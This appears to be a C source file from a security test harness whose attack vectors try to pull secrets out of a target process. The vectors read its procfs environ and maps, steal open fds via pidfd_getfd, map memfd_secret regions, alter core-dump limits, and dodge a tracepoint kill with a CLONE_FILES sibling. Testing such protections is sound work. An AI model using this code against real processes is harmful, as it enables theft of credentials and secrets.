/* ct-attack's vectors on the target's files: its procfs entries, its open
 * fds (stolen or reopened), its core-dump settings. */
#define _GNU_SOURCE
#include <dirent.h>
#include <poll.h>
#include <time.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sched.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "procfs.h"

#ifndef SECRETMEM_MAGIC
#define SECRETMEM_MAGIC 0x5345434d
#endif

#define PROBE_FILE_CAP (64 * 1024) /* pagemap never ends */

static unsigned char tmp[CHUNK];

/* Reads path (the probe at most PROBE_FILE_CAP bytes, the hunt all of it)
 * and reports it as `name`. */
static int read_file(const char *path, const char *name)
{
	size_t cap = attack.hunt ? (size_t)-1 : PROBE_FILE_CAP, total = 0;
	struct scanner sc = { 0 };
	char failed[64];
	ssize_t n = 0;
	int fd;

	step("open %s", path);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		snprintf(failed, sizeof(failed), "open %s", name);
		refused(failed, errno);
		return finish();
	}
	step("read %s", path);
	while (total < cap &&
	       (n = read(fd, tmp, cap - total < sizeof(tmp) ? cap - total : sizeof(tmp))) > 0) {
		feed(&sc, tmp, (size_t)n);
		total += (size_t)n;
	}
	if (n < 0) {
		snprintf(failed, sizeof(failed), "read %s", name);
		if (total == 0)
			refused(failed, errno);
		else
			item_err(failed, errno);
	}
	close(fd);
	took(sc.bytes, sc.hits);
	item("\"what\":\"%s\",\"bytes\":%lu,\"hits\":%ld", name, sc.bytes, sc.hits);
	return finish();
}

static int read_proc(const char *entry)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/%s", (int)attack.pid, entry);
	return read_file(path, entry);
}

/* The same entry through the thread's own directory: the pid is a thread
 * id, /proc/<tgid>/task/<tid>/. */
static int read_task(const char *entry)
{
	char path[96];

	snprintf(path, sizeof(path), "/proc/%d/task/%d/%s", tgid_of(attack.pid),
		 (int)attack.pid, entry);
	return read_file(path, entry);
}

int v_environ(void)
{
	return read_proc("environ");
}

/* maps smaps pagemap stack syscall: the vector names the entry. */
int v_proc_file(void)
{
	return read_proc(attack.vector);
}

int v_task_environ(void)
{
	return read_task("environ");
}

int v_task_fd_reopen(void)
{
	char entry[32];

	snprintf(entry, sizeof(entry), "fd/%d", atoi(attack.fds));
	return read_task(entry);
}

/* ---- fds ---- */

/* What a stolen or reopened fd is, and whether it gave up a marker:
 * memory-backed files are read whole, by read and by mmap. */
static void loot(int fd, const char *what_fd)
{
	const char *kind = "other", *read_err = "", *map_err = "";
	char link[64], target[256] = "?";
	struct scanner sc = { 0 };
	struct statfs fs;
	struct stat st = { 0 };
	ssize_t l, n;
	int memory = 0;
	off_t off = 0;

	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	l = readlink(link, target, sizeof(target) - 1);
	target[l > 0 ? l : 0] = 0;
	for (char *c = target; *c; c++)
		if (*c == '"' || *c == '\\' || (unsigned char)*c < 0x20)
			*c = '?';
	if (fstat(fd, &st) == 0) {
		if (S_ISFIFO(st.st_mode))
			kind = "pipe";
		else if (S_ISSOCK(st.st_mode))
			kind = "socket";
		else if (S_ISCHR(st.st_mode))
			kind = "chardev";
		else if (S_ISREG(st.st_mode))
			kind = "file";
	}
	if (fstatfs(fd, &fs) == 0 && fs.f_type == SECRETMEM_MAGIC) {
		kind = "secretmem";
		memory = 1;
	} else if (strncmp(target, "/memfd:", 7) == 0 || strstr(target, "(deleted)")) {
		memory = S_ISREG(st.st_mode);
		if (memory)
			kind = "memfd";
	} else if (strncmp(target, "anon_inode:", 11) == 0) {
		kind = "anon_inode";
	}
	if (!memory) {
		item("\"what\":\"%s\",\"kind\":\"%s\",\"target\":\"%s\"", what_fd, kind, target);
		return;
	}
	while ((n = pread(fd, tmp, sizeof(tmp), off)) > 0) {
		feed(&sc, tmp, (size_t)n);
		off += n;
	}
	if (n < 0)
		read_err = ename(errno);
	if (st.st_size > 0) {
		void *p = mmap(NULL, st.st_size, PROT_READ, MAP_SHARED, fd, 0);

		if (p == MAP_FAILED) {
			map_err = ename(errno);
		} else {
			struct scanner ms = { 0 };

			feed(&ms, p, st.st_size);
			if (ms.hits > sc.hits)
				sc.hits = ms.hits;
			munmap(p, st.st_size);
		}
	}
	took((unsigned long)off, sc.hits);
	item("\"what\":\"%s\",\"kind\":\"%s\",\"target\":\"%s\",\"size\":%lld,"
	     "\"hits\":%ld,\"read_err\":\"%s\",\"mmap_err\":\"%s\"",
	     what_fd, kind, target, (long long)st.st_size, sc.hits, read_err, map_err);
}

/* The next fd number of the comma list at *p (advanced), or -1 at its end. */
static int next_fd(const char **p, char *name, size_t size)
{
	size_t n;

	*p += strspn(*p, ",");
	n = strcspn(*p, ",");
	if (n == 0)
		return -1;
	snprintf(name, size, "%.*s", (int)n, *p);
	*p += n;
	return atoi(name);
}

/* The fds `all` tries: a start-up wrapper's (Deno's) fds are unknown to
 * the harness, and below this. */
#define ALL_FDS 256

/* pidfd_getfd of each fd in FDS (a thread id gets a thread pidfd, 6.9+);
 * FDS `all`: every fd below ALL_FDS, the closed ones (EBADF) counted, not
 * listed. */
int v_getfd(void)
{
	const char *list = attack.fds;
	char num[16], what_fd[32], all[ALL_FDS * 4 + 1];
	int pidfd, n, closed = 0, every = strcmp(list, "all") == 0;

	step("pidfd_open");
	pidfd = syscall(SYS_pidfd_open, attack.pid, 0);
	if (pidfd < 0 && (errno == EINVAL || errno == ENOENT))
		pidfd = syscall(SYS_pidfd_open, attack.pid, O_EXCL /* PIDFD_THREAD */);
	if (pidfd < 0) {
		refused("pidfd_open", errno);
		return finish();
	}
	if (every) {
		size_t len = 0;

		for (int f = 0; f < ALL_FDS; f++)
			len += snprintf(all + len, sizeof(all) - len, "%s%d", f ? "," : "", f);
		list = all;
	}
	while ((n = next_fd(&list, num, sizeof(num))) >= 0) {
		int fd;

		snprintf(what_fd, sizeof(what_fd), "fd %s", num);
		if (!every)
			step("pidfd_getfd %s", num);
		else if (n == 0)
			step("pidfd_getfd every fd below %d", ALL_FDS);
		fd = syscall(SYS_pidfd_getfd, pidfd, n, 0);
		if (fd < 0 && every && errno == EBADF) {
			closed++;
			continue;
		}
		if (fd < 0) {
			refused(what_fd, errno);
			continue;
		}
		loot(fd, what_fd);
		close(fd);
	}
	if (every)
		item("\"what\":\"fds not open\",\"count\":%d", closed);
	close(pidfd);
	return finish();
}

/* The start-up window from the attacker's side (the VM test): a loop of
 * pidfd_getfd over the target's fds 0..FDS (a number; default 31) from
 * the moment the target exists until it exits (bounded by 60 s). Each try
 * is counted: refused (EPERM), not open (EBADF), or stolen; a stolen
 * memfd_secret fd is mapped and read for the secret. With CT_GO_FILE set,
 * the file is created after the first pass: a target waiting for it makes
 * its region only once the loop runs. One probe line:
 *   {"attack":"getfd_race","pid":N,"result":"EPERM"|"ok","attempts":A,
 *    "eperm":E,"ebadf":B,"other":O,"stolen":S,"stolen_secretmem":M,
 *    "saw_secret":bool,"other_err":"the first other errno"}
 * result is ok when anything was stolen, EPERM when every try that found
 * an open fd was refused. */
int v_getfd_race(void)
{
	long attempts = 0, eperm = 0, ebadf = 0, other = 0, stolen = 0, secretmem = 0;
	int top = *attack.fds ? atoi(attack.fds) : 31, saw = 0, pidfd;
	const char *go = getenv("CT_GO_FILE");
	int other_err = 0;
	struct timespec t0, now;

	pidfd = syscall(SYS_pidfd_open, attack.pid, 0);
	if (pidfd < 0) {
		refused("pidfd_open", errno);
		return finish();
	}
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (int pass = 0;; pass++) {
		struct pollfd pfd = { .fd = pidfd, .events = POLLIN };

		if (poll(&pfd, 1, 0) == 1)
			break; /* the target exited */
		clock_gettime(CLOCK_MONOTONIC, &now);
		if (now.tv_sec - t0.tv_sec > 60)
			break;
		for (int n = 0; n <= top; n++) {
			int fd = syscall(SYS_pidfd_getfd, pidfd, n, 0);
			struct statfs fs;

			if (fd < 0 && errno == ESRCH)
				goto gone; /* exiting: no fd table left */
			attempts++;
			if (fd < 0) {
				if (errno == EPERM)
					eperm++;
				else if (errno == EBADF)
					ebadf++;
				else if (other++ == 0)
					other_err = errno;
				continue;
			}
			stolen++;
			if (fstatfs(fd, &fs) == 0 && fs.f_type == SECRETMEM_MAGIC) {
				void *p = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);

				secretmem++;
				if (p != MAP_FAILED) {
					struct scanner sc = { 0 };

					feed(&sc, p, 4096);
					saw |= sc.hits > 0;
					munmap(p, 4096);
				}
			}
			close(fd);
		}
		if (pass == 0 && go) {
			int g = open(go, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);

			if (g >= 0)
				close(g);
		}
	}
gone:
	close(pidfd);
	printf("{\"attack\":\"getfd_race\",\"pid\":%d,\"result\":\"%s\",\"attempts\":%ld,"
	       "\"eperm\":%ld,\"ebadf\":%ld,\"other\":%ld,\"stolen\":%ld,"
	       "\"stolen_secretmem\":%ld,\"saw_secret\":%s,\"other_err\":\"%s\"}\n",
	       (int)attack.pid, stolen ? "ok" : eperm ? "EPERM" : "none", attempts, eperm, ebadf,
	       other, stolen, secretmem, saw ? "true" : "false",
	       other ? ename(other_err) : "");
	return stolen ? 0 : 1;
}

/* open /proc/PID/fd/N for each N in FDS (procfs refuses a denied one with
 * EACCES). */
int v_reopen(void)
{
	const char *list = attack.fds;
	char num[16], path[64], what_fd[32];

	while (next_fd(&list, num, sizeof(num)) >= 0) {
		int fd;

		snprintf(path, sizeof(path), "/proc/%d/fd/%s", (int)attack.pid, num);
		snprintf(what_fd, sizeof(what_fd), "fd %s", num);
		step("open %s", path);
		fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
		if (fd < 0) {
			refused(what_fd, errno);
			continue;
		}
		loot(fd, what_fd);
		close(fd);
	}
	return finish();
}

/* Every /proc/PID/map_files/ entry opened; the memory-backed ones
 * (secretmem, memfd, deleted) read. */
int v_map_files(void)
{
	int plain = 0;
	struct dirent *e;
	char dir[64];
	DIR *d;

	snprintf(dir, sizeof(dir), "/proc/%d/map_files", (int)attack.pid);
	step("opendir %s", dir);
	d = opendir(dir);
	if (!d) {
		refused("opendir map_files", errno);
		return finish();
	}
	while ((e = readdir(d))) {
		char target[256] = "";
		ssize_t l;
		int memory, fd;

		if (e->d_name[0] == '.')
			continue;
		l = readlinkat(dirfd(d), e->d_name, target, sizeof(target) - 1);
		target[l > 0 ? l : 0] = 0;
		memory = strstr(target, "secretmem") || strstr(target, "memfd:") ||
			 strstr(target, "(deleted)");
		step("open map_files entry");
		fd = openat(dirfd(d), e->d_name, O_RDONLY | O_CLOEXEC);
		if (fd < 0) {
			char what_entry[300];

			for (char *c = target; *c; c++)
				if (*c == '"' || *c == '\\' || (unsigned char)*c < 0x20)
					*c = '?';
			snprintf(what_entry, sizeof(what_entry), "map_files %s",
				 *target ? target : "?");
			item_err(what_entry, errno);
			continue;
		}
		if (memory)
			loot(fd, "map_files entry");
		else
			plain++;
		close(fd);
	}
	closedir(d);
	item("\"what\":\"file-backed entries opened\",\"count\":%d,\"hits\":0", plain);
	return finish();
}

/* ---- core dumps ---- */

int v_coredump_filter(void)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/coredump_filter", (int)attack.pid);
	step("open %s for writing", path);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0) {
		refused("open coredump_filter", errno);
		return finish();
	}
	step("write coredump_filter");
	if (write(fd, "0x1ff", 5) < 0)
		refused("write coredump_filter", errno);
	else
		item("\"what\":\"write 0x1ff\",\"bytes\":5,\"hits\":0");
	close(fd);
	return finish();
}

/* Raise the target's RLIMIT_CORE to unlimited. */
int v_prlimit_core(void)
{
	struct rlimit inf = { RLIM_INFINITY, RLIM_INFINITY };

	step("prlimit RLIMIT_CORE");
	if (prlimit(attack.pid, RLIMIT_CORE, &inf, NULL) < 0)
		refused("prlimit", errno);
	else
		item("\"what\":\"RLIMIT_CORE unlimited\",\"bytes\":0,\"hits\":0");
	return finish();
}

/* Lower the target's soft RLIMIT_CORE to 0 (hard kept): allowed without
 * CAP_SYS_RESOURCE, and at 0 a pipe core_pattern dumps (the kernel aborts
 * pipe cores only at 1). */
int v_prlimit_soft0(void)
{
	struct rlimit now;

	step("prlimit RLIMIT_CORE soft 0");
	if (prlimit(attack.pid, RLIMIT_CORE, NULL, &now) < 0) {
		refused("prlimit (read)", errno);
	} else {
		struct rlimit soft0 = { 0, now.rlim_max };

		if (prlimit(attack.pid, RLIMIT_CORE, &soft0, NULL) < 0)
			refused("prlimit", errno);
		else
			item("\"what\":\"RLIMIT_CORE soft 0\",\"bytes\":0,\"hits\":0");
	}
	return finish();
}

/* What the attacker tells its sibling (shared memory: the fd table is
 * shared too, so a pipe would not close when the attacker dies). */
struct sibling_news {
	int done; /* pidfd_getfd returned: the attacker was not killed first */
	int err;  /* its errno, 0: an fd was installed */
};

/* The sibling: waits until the attacker is done or dead, then looks for a
 * memfd_secret fd in the shared table and reads the secret through it. */
static int sibling(int attacker_pidfd, volatile struct sibling_news *news)
{
	long secretmem = 0;
	int saw = 0;

	for (int i = 0; i < 500 && !news->done; i++) {
		struct pollfd pfd = { .fd = attacker_pidfd, .events = POLLIN };

		if (poll(&pfd, 1, 10) == 1)
			break; /* the attacker exited (killed) */
	}
	for (int fd = 0; fd < ALL_FDS; fd++) {
		struct statfs fs;
		void *p;

		if (fstatfs(fd, &fs) != 0 || fs.f_type != SECRETMEM_MAGIC)
			continue;
		secretmem++;
		p = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
		if (p != MAP_FAILED) {
			struct scanner sc = { 0 };

			feed(&sc, p, 4096);
			saw |= sc.hits > 0;
			munmap(p, 4096);
		}
	}
	printf("{\"attack\":\"getfd_sibling\",\"pid\":%d,\"result\":\"%s\",\"attacker\":\"%s\","
	       "\"getfd_err\":\"%s\",\"stolen_secretmem\":%ld,\"saw_secret\":%s}\n",
	       (int)attack.pid, secretmem ? "ok" : "none", news->done ? "alive" : "killed",
	       news->done && news->err ? ename(news->err) : "", secretmem,
	       saw ? "true" : "false");
	fflush(stdout);
	return secretmem ? 0 : 1;
}

/* The tracepoint tier's limit: it kills the caller of pidfd_getfd at the
 * syscall's entry, but the call completes and installs the fd before the
 * kill lands; a process sharing the caller's fd table (clone(CLONE_FILES),
 * not its thread group) survives and keeps it. The attacker steals fd FDS
 * of the target once; its sibling reports what the shared table holds. */
int v_getfd_sibling(void)
{
	volatile struct sibling_news *news;
	int pidfd, self, status = 0;
	pid_t child;

	news = mmap(NULL, sizeof(*news), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1,
		    0);
	pidfd = syscall(SYS_pidfd_open, attack.pid, 0);
	self = syscall(SYS_pidfd_open, getpid(), 0);
	if (news == MAP_FAILED || pidfd < 0 || self < 0) {
		refused(news == MAP_FAILED ? "mmap" : "pidfd_open", errno);
		return finish();
	}
	child = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, NULL, NULL, 0);
	if (child < 0) {
		refused("clone", errno);
		return finish();
	}
	if (child == 0)
		_exit(sibling(self, news));
	int fd = syscall(SYS_pidfd_getfd, pidfd, atoi(attack.fds), 0);

	news->err = fd < 0 ? errno : 0;
	news->done = 1;
	waitpid(child, &status, 0);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}
